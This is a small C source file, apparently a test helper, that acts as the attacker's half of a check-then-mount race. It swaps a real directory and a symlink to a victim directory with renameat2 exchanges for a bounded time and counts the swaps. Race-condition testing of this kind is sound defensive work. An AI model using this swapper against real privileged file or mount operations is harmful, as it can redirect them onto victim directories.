// The attacker's half of the check-then-mount race: exchanges two names (a
// real directory and a symlink to a victim directory) with
// renameat2(RENAME_EXCHANGE) as fast as it can, for a bounded time.
// Usage: swapper NAME_A NAME_B SECONDS. Prints the number of exchanges.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: swapper NAME_A NAME_B SECONDS\n");
    return 2;
  }
  const time_t end = time(nullptr) + atoi(argv[3]);
  unsigned long swaps = 0;
  while (time(nullptr) < end) {
    for (int i = 0; i < 4096; ++i) {
      if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) ++swaps;
    }
  }
  printf("%lu\n", swaps);
  return 0;
}
